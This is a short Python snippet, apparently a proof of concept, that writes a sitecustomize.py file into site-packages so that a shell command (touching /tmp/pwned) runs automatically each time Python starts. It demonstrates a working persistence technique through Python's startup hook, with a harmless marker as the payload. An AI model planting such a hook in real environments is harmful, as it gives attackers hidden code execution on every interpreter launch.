# sitecustomize.py is imported automatically by site.py
import sysconfig
purelib = sysconfig.get_paths()["purelib"]
with open(purelib + "/sitecustomize.py", "w") as f:
    f.write("import os\nos.system('touch /tmp/pwned')\n")
